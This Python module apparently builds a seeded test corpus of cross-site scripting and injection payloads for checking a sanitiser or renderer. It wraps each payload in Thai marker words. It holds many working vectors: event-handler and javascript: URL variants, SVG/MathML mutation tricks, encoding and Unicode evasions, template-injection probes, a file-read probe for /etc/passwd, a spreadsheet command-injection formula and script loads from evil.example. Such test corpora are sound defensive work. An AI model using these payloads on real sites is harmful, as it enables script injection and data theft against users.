"""Payloads that want to become markup: by family, in one order for each seed.

An attack stands between two marks in Thai words. The marks are the harmless text: whatever becomes
of the attack, they must reach the reader.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain, product, zip_longest

SEED = 20690715
_JS = "alert(1)"
_TAGS = (
    "svg", "img src=x", "body", "details open", "video src=x", "audio src=x", "input autofocus",
    "marquee", "iframe", "object data=x", "math", "a href=x", "button", "select autofocus",
    "textarea autofocus", "form", "x-y tabindex=1", "style", "link rel=stylesheet href=x", "table",
)  # fmt: skip
_HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter",
    "onanimationstart", "onbegin", "oncut", "onwheel", "onpageshow",
)  # fmt: skip
_SEPARATORS = (" ", "/", "\t", "\n", "\x0c", " / ")
#: Where a browser follows an address.
_HOLDERS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<img src="{}">',
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    "[x]({})",
    "{}",
)
_SCHEMES = (
    "javascript:",
    " javascript:",
    "\tjavascript:",
    "\x01javascript:",
    "java\tscript:",
    "java\nscript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript&#58;",
    "java&Tab;script:",
    "javascript%3A",
    "jav\u00adascript:",
    "\u2028javascript:",
    "vbscript:",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/",
)
_DRAWINGS = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
)
_BREAKS = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
    '" autofocus onfocus="alert(1)', "' autofocus onfocus=alert(1) x='", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", '"/><img src=x onerror=alert(1)>', "'/><svg/onload=alert(1)>",
    '&quot; onclick=&quot;alert(1)', "&#34;&#62;<svg/onload=alert(1)>", '" style="animation:x" onanimationstart="alert(1)',
    '\\" onload=\\"alert(1)', '">\n<script>alert(1)</script>', "\">\u2028<script>alert(1)</script>",
    'x" href="javascript:alert(1)', 'x" srcset="x 1x" onerror="alert(1)', '" accesskey="x" onclick="alert(1)" x="',
)  # fmt: skip
_ENDS = (
    "</title>", "</textarea>", "</script>", "</style>", "</select>", "</option>", "</noscript>", "-->",
    "--!>", "]]>", "?>", "%>", "</head>", "</svg>", "</math>", "</template>", "</iframe>", "</xmp>",
    "</p></div></main>", "<!--", "<![CDATA[", "<!DOCTYPE x [", "<?xml ", "<plaintext>", "<xmp>",
    "<noscript><p title=\"</noscript>", "<template>", "<frameset>", "<textarea>", "<title>",
)  # fmt: skip
_WORDS_OF_SCRIPTS = (
    '"};alert(1);//', "';alert(1);//", "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)",
    '"}]}</script><script>alert(1)</script>', "<\\/script><script>alert(1)</script>",
    "\u2028alert(1)\u2029", '","@type":"Thing","url":"javascript:alert(1)', "*/alert(1)/*", "//\nalert(1)",
    "</script ><script >alert(1)</script >", "</SCRIPT><SCRIPT>alert(1)</SCRIPT>", "<!--<script>",
)  # fmt: skip
_BRACES = (
    "{{ 7*7 }}", "{% debug %}", "{% load static %}", "{{ request.user.password }}", "{{7|add:7}}",
    "{# x #}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "{{{x}}}", "[[7*7]]", "%(who)s %s %d", "{0} {name}", "{% include 'x' %}", '#read("/etc/passwd")',
    "$x$ *b* _i_ `raw`", "@import url(javascript:alert(1));", "expression(alert(1))", "=cmd|' /C calc'!A0",
)  # fmt: skip
_SIGNS = (
    "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "<scr\u200bipt>alert(1)</script>",
    "<scr\u2060ipt>alert(1)</script>", "<\u200bscript>alert(1)</script>", "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>", "<script\u0e31>alert(1)</script>", "<ก><script>alert(1)</script>",
    "<img src=x on\u200berror=alert(1)>", "<img src=x on\u00aderror=alert(1)>", "<img\u00a0src=x onerror=alert(1)>",
    "<img\u3000src=x onerror=alert(1)>", "‹script›alert(1)‹/script›", "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\x3cscript\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>",
    "<a\u0e38\u0e39 href=javascript:alert(1)>", "<İmg src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>",
    "<k\u212a onclick=alert(1)>", "๑<script>alert(๑)</script>", "<script>อเลิร์ต(1)</script>",
    "น้ำ<svg/onload=alert(1)>พริก", "เ<b>แ", "ก\u0e33<img src=x onerror=alert(1)>\u0e33", "𝒔𝒄𝒓𝒊𝒑𝒕:alert(1)",
)  # fmt: skip
_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=data:,alert(1)>",
    "<ScRiPt>alert`1`</sCrIpT>", "<script type=module>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "<<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)",
    "<script>/*", "<script x>alert(1)</script y>", "<script src=x onerror=alert(1)></script>",
    "<script type='application/ld+json'>{}</script>", "<script nonce=x>alert(1)</script>", "</br><script>alert(1)</script>",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """One attack, with the number that its marks are made of."""

    number: int
    family: str
    attack: str

    def within(self, mark: str, most: int | None = None) -> str:
        """Put it between marks in Thai words; only after a mark where the field is short."""
        whole = f"ผ้า{mark} {self.attack} {mark}ย้อมคราม"
        return whole if most is None or len(whole) <= most else f"{mark}{self.attack}"


def payloads(number: int, seed: int = SEED) -> list[Payload]:
    """Return so many: of each family in turn, so that a few already hold one of each."""
    dice = random.Random(seed)  # noqa: S311 - made-up content
    rows = []
    for name, attacks in _families(dice).items():
        unlike = list(dict.fromkeys(attacks))
        dice.shuffle(unlike)
        rows.append([(name, attack) for attack in unlike])
    turns = [one for one in chain.from_iterable(zip_longest(*rows)) if one]
    if number > len(turns):
        raise ValueError(f"there are {len(turns)} payloads, not {number}")
    return [Payload(place, name, attack) for place, (name, attack) in enumerate(turns[:number])]


def _families(dice: random.Random) -> dict[str, list[str]]:
    return {
        "handlers": list(_with_handlers(dice)),
        "addresses": list(_with_addresses(dice)),
        "drawings": list(_DRAWINGS),
        "breaks": list(_BREAKS),
        "ends": [f"{end}{dice.choice(_SCRIPTS[:4])}" for end in _ENDS],
        "scripts": list(_SCRIPTS),
        "words_of_scripts": list(_WORDS_OF_SCRIPTS),
        "braces": list(_BRACES),
        "signs": list(_SIGNS),
    }


def _with_handlers(dice: random.Random) -> Iterator[str]:
    for tag, handler in product(_TAGS, _HANDLERS):
        gap = dice.choice(_SEPARATORS)
        name = "".join(dice.choice((letter, letter.upper())) for letter in handler)
        js = dice.choice((_JS, "&#97;lert(1)", "'alert(1)'", '"alert(1)"', "alert`1`", "\\u0061lert(1)"))
        yield f"<{tag.replace(' ', gap, 1)}{gap}{name}={js}>"


def _with_addresses(dice: random.Random) -> Iterator[str]:
    for holder, scheme in product(_HOLDERS, _SCHEMES):
        # Every case: each letter is drawn.
        drawn = "".join(dice.choice((letter, letter.upper())) for letter in scheme)
        kept = scheme if scheme.startswith("data:") or "&" in scheme else drawn
        js = "" if scheme.startswith(("data:", "//")) else _JS
        yield holder.replace("{}", kept + js)
